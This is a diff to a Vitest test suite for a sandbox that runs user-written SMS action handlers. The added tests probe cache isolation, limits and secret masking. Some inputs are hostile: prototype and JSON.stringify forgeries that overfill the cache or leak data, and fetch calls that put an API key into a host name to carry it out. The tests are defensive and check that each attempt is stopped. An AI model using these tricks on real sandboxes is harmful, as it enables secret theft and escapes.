@@ -1,4 +1,5 @@
-import { describe, expect, it, onTestFinished } from 'vitest';
+import { describe, expect, it, onTestFinished, vi } from 'vitest';
+import { createActionCache, type KeptCache } from '../../src/core/actions/action-cache';
 import type { LookUpAll } from '../../src/core/actions/action-fetch';
 import { type ActionRun, runAction } from '../../src/core/actions/run-action';
 import { defaultLimits } from '../../src/core/actions/sandbox/protocol';
@@ -8,6 +9,8 @@ import { startStandIn } from '../stand-ins/server';
 import { leaksIn } from '../support/leaks';
 import { builtSandboxWorker } from '../support/sandbox-worker';
 
+// A run has a thread of its own to wait for.
+vi.setConfig({ testTimeout: 60_000 });
 const startSandbox = startSandboxIn(await builtSandboxWorker());
 const secrets = { API_KEY: 'made-up-key-0a1b2c3d4e' };
 const event = { notification: { message_type: 'otp_verify', delivery_method: 'text', recipient: '+14155550132', as_text: 'Your code is 482913', code: '482913' }, user: { user_metadata: { nested: { value: 1 } } } };
@@ -18,12 +21,12 @@ const refusing: LookUpAll = (_host, _options, done) => {
   done(Object.assign(new Error('asked for a name'), { code: 'EASKED' }), []);
 };
 
-/** A run in a thread of its own, as in the app, with less time. `before`: outside of the handler. */
-function attempt(body: string, over: Partial<ActionRun> = {}, { before = '', cpuMs = 400, wallMs = 2_500, lookUp = refusing }: { before?: string; cpuMs?: number; wallMs?: number; lookUp?: LookUpAll } = {}): Promise<ActionReport> {
+/** A run in a thread of its own, as in the app, with less time to compute. `before`: outside of the handler. */
+function attempt(body: string, over: Partial<ActionRun> = {}, { before = '', cpuMs = 400, wallMs = 30_000, lookUp = refusing, cache }: { before?: string; cpuMs?: number; wallMs?: number; lookUp?: LookUpAll; cache?: KeptCache } = {}): Promise<ActionReport> {
   const code = `${before}\nexports.${actionHandlers.sms} = async (event, api) => {${body}\n};`;
   return runAction(
     { code, handler: actionHandlers.sms, event, secrets, allowed: nowhere, answers: [], ...over },
-    { startSandbox, clock: Date, signal: new AbortController().signal, limits: { ...defaultLimits, cpuMs, wallMs }, lookUp },
+    { startSandbox, clock: Date, signal: new AbortController().signal, limits: { ...defaultLimits, cpuMs, wallMs }, lookUp, cache },
   );
 }
 const printed = ({ action }: ActionReport) => action.console.map(({ text }) => text).join('\n');
@@ -118,6 +121,36 @@ describe('code of an action cannot reach the host', () => {
     expect(printed(report)).toBe('undefined undefined undefined undefined undefined +14155550132 1');
   });
 
+  it('by reading what another run left, but for what its own integration keeps in api.cache', async () => {
+    const cache = createActionCache({ clock: Date });
+    const one = { id: 'one', revision: 0 };
+    const look = 'console.log(JSON.stringify(api.cache.get("left")?.value ?? null))';
+    const leave = 'api.cache.set("left", "of one"); globalThis.left = 1;';
+    await attempt(leave, {}, { cache: cache.of(one) });
+    const looks = await Promise.all([one, { id: 'two', revision: 0 }].map((integration) => attempt(look, {}, { cache: cache.of(integration) })));
+    expect(looks.map(printed)).toEqual(['"of one"', 'null']);
+  });
+
+  it('by filling what is kept between runs beyond its bounds, even past the runtime’s own check', async () => {
+    const cache = createActionCache({ clock: Date });
+    const one = { id: 'one', revision: 0 };
+    const forge = `const records = Array.from({ length: 30 }, (_, n) => ({ key: "k" + n, value: "x".repeat(5000), expires_at: 9e15 }));
+      const real = JSON.stringify; JSON.stringify = (value) => real(value && value.cache ? { ...value, cache: records } : value);
+      Map.prototype[Symbol.iterator] = function* () { for (const { key, ...record } of records) yield [key, record]; };`;
+    await attempt(forge, {}, { cache: cache.of(one) });
+    expect(cache.of(one).records.reduce((sum, { value }) => sum + value.length, 0)).toBeLessThanOrEqual(8_192);
+  });
+
+  it('by keeping more in api.cache than Auth0 lets it', async () => {
+    const report = await attempt(`
+      const codes = []; const set = (key, value, options) => { const { type, code } = api.cache.set(key, value, options); codes.push(code ?? type); };
+      set('k'.repeat(65), '1'); set('a', 'x'.repeat(4097)); set('a', '1', { ttl: NaN }); set('a', '1', { ttl: -1 }); set('a', '1', { ttl: 1e12 });
+      console.log(codes.join(), api.cache.get('a').expires_at - Date.now() <= 86_400_000, api.cache.delete('b').code);
+      codes.length = 0; for (let i = 0; i < 30; i += 1) set('k' + i, '1'); console.log([...new Set(codes)].join(), codes.indexOf('MaxSideEffectsExceeded'));`);
+    expect(printed(report)).toBe('CacheKeySizeExceeded,CacheValueSizeExceeded,InvalidExpiry,ItemAlreadyExpired,success true CacheKeyDoesNotExist\nsuccess,MaxSideEffectsExceeded 15');
+    expect(printed(await attempt('const codes = []; for (let i = 0; i < 3; i += 1) codes.push(api.cache.set("k" + i, "x".repeat(4000)).code); console.log(codes.join())'))).toBe(',,CacheSizeExceeded');
+  });
+
   it('by code that closes the function it is put into', async () => {
     for (const before of ['}); globalThis.out = 1; (function () {', '})(), (() => {', '/* never closed', '`never closed', '}', 'return exports;']) {
       const report = await attempt('console.log(typeof process.pid)', {}, { before });
@@ -149,11 +182,12 @@ describe('code of an action ends in time', () => {
     ['a promise that nothing settles', 'await new Promise(() => {})', 'stuck'],
     ['a timer beyond the clock', 'await new Promise((done) => setTimeout(done, 1e9))', 'wall'],
     ['a timer that repeats', 'await new Promise(() => setInterval(() => {}, 1))', /wall|cpu/],
-    ['more timers than are kept', 'for (;;) setTimeout(() => {}, 1000)', /threw|cpu|memory|stuck/],
+    ['more timers than are kept', 'for (;;) setTimeout(() => {}, 1e6)', 'threw'],
     ['an error that cannot be read', 'throw new Proxy({}, { get() { throw 1 } })', 'threw'],
     ['an error that is nothing', 'throw undefined', 'threw'],
-  ])('%s', { timeout: 60_000 }, async (_what, body, end) => {
-    const report = await attempt(body);
+  ])('%s', async (_what, body, end) => {
+    // On a busy machine little is computed in much time: only what waits is ended by the clock.
+    const report = await attempt(body, {}, String(end).includes('wall') ? { wallMs: 2_500 } : {});
     if (typeof end === 'string') expect(report.action.end).toBe(end);
     else expect(report.action.end).toMatch(end);
     expectExplained(report);
@@ -181,6 +215,40 @@ describe('code of an action ends in time', () => {
     expect(report.error?.message).toBe('1980');
     expect(report.action.console.length).toBeLessThan(20);
     expect(report.action.console.at(-1)?.text).toBe('Further lines are left out.');
+    const many = await attempt('for (let i = 0; i < 2000; i += 1) console.log(i);', {}, { cpuMs: 2_000, wallMs: 10_000 });
+    expect([many.action.console.length, many.action.console[499]?.text, many.action.console.at(-1)?.text]).toEqual([501, '499', 'Further lines are left out.']);
+  });
+});
+
+describe('secrets of an action', () => {
+  const hidden = async (body: string, over: Partial<ActionRun> = {}, tools: Parameters<typeof attempt>[2] = {}) => {
+    const report = await attempt(body, over, tools);
+    expect(leaksIn([report], [...Object.values(secrets), ...Object.values(secrets).map((secret) => secret.toUpperCase())])).toEqual([]);
+    return report;
+  };
+  const forged = (values: string) => `const key = event.secrets.API_KEY; Array.prototype.toJSON = function () { return ${values}; };`;
+
+  it('stay hidden in the level and the line of a console line that was forged', async () => {
+    const report = await hidden(`${forged('[key, "text", key]')} console.log('x');`);
+    expect(report.action.console).toEqual([{ level: 'log', text: 'text' }]);
+  });
+
+  it('stay hidden in the names of exports that were forged', async () => {
+    const report = await hidden('const key = event.secrets.API_KEY; Object.prototype.toJSON = function () { return "cache" in this && !("missing" in this) ? { decision: null, cache: [], missing: [key, "x".repeat(1e6)] } : this; };');
+    expect(report.action.end).toBe('no-handler');
+    expect(report.error?.meaning.length).toBeLessThan(2_000);
+  });
+
+  it('stay hidden in a host that is refused, also in capital letters', async () => {
+    const over = { answers: null, secrets: { API_KEY: secrets.API_KEY.toUpperCase() } };
+    const report = await hidden('await fetch("https://" + event.secrets.API_KEY + ".example/" + event.secrets.API_KEY).catch((error) => console.log(error.message)); await fetch("https://sms.example/", { method: event.secrets.API_KEY }).catch((error) => console.log(error.message)); throw new Error(new URL("https://" + event.secrets.API_KEY).host);', over);
+    expect(report.action.exchanges[0]?.error).toMatch(/^The host •+\.example is not in the list/);
+  });
+
+  it('stay hidden in what it says last', async () => {
+    await hidden('api.notification.retry("key " + event.secrets.API_KEY)');
+    await hidden('const error = new Error("x"); error.name = event.secrets.API_KEY; error.stack = event.secrets.API_KEY; throw error');
+    await hidden('exports[event.secrets.API_KEY] = 1; console.error({ [event.secrets.API_KEY]: [event.secrets.API_KEY] }, new Error(event.secrets.API_KEY))');
   });
 });
 
@@ -288,6 +356,35 @@ describe('code of an action asks only where it may', () => {
     expect(printed(report)).toBe('TypeError TypeError EBADMETHOD EBADMETHOD sent\nEBADHEADER\nEBADHEADER\nsent');
     for (const { headers } of standIn.requests) expect(headers['x-evil']).toBeUndefined();
     expect(standIn.requests.at(-1)).toMatchObject({ body: 'whole', headers: { host: new URL(standIn.url).host } });
+  });
+
+  it('and reads no more of an answer than it may, nor sends more', async () => {
+    const standIn = await startStandIn(() => ({ status: 200, body: 'x'.repeat(1_048_577) }));
+    onTestFinished(() => standIn.close());
+    const report = await attempt(
+      `const url = ${JSON.stringify(`${standIn.url}/`)}; const said = (ask) => ask().then((answer) => answer.text()).then(() => 'got it', (error) => error.message);
+      console.log(await said(() => fetch(url)));
+      console.log(await said(() => fetch(url, { method: 'POST', body: 'x'.repeat(1_048_577) })));
+      console.log(await said(() => fetch(url, { headers: Object.fromEntries(Array.from({ length: 100 }, (_, n) => ['x-' + n, 'v'.repeat(1_000)])) })));
+      console.log(await said(() => fetch(url, { headers: { 'x-a': 'v'.repeat(20_000) } })), await said(() => fetch(url + 'p'.repeat(9_000))));`,
+      { answers: null, allowed: { hosts: [new URL(standIn.url).host], loopbackHttp: true, privateAddresses: false } },
+      { cpuMs: 5_000, wallMs: 20_000 },
+    );
+    expect(printed(report).split('\n')).toEqual([
+      'fetch failed: The answer is larger than 1 MB.',
+      'fetch failed: The body of the request is larger than 1 MB.',
+      'fetch failed: The headers of the request are larger than 64 kB.',
+      'fetch failed: The request is too large, or no request. fetch failed: The request is too large, or no request.',
+    ]);
+    expect(standIn.requests).toHaveLength(1);
+  });
+
+  it('and follows five redirects at most, each of them counted as a request', async () => {
+    const standIn = await startStandIn(() => ({ status: 302, headers: { location: '/again' }, body: '' }));
+    onTestFinished(() => standIn.close());
+    const report = await attempt(`const turn = () => fetch(${JSON.stringify(`${standIn.url}/`)}).catch((error) => error.message); console.log(await turn()); for (let i = 0; i < 4; i += 1) console.log(await turn());`, { answers: null, allowed: { hosts: [new URL(standIn.url).host], loopbackHttp: true, privateAddresses: false } }, { cpuMs: 2_000, wallMs: 20_000 });
+    expect(printed(report).split('\n')).toEqual([...Array<string>(3).fill('fetch failed: Too many redirects.'), ...Array<string>(2).fill('fetch failed: More than 20 requests in one run.')]);
+    expect(standIn.requests).toHaveLength(20);
   });
 
   it('and never in a dry run', async () => {
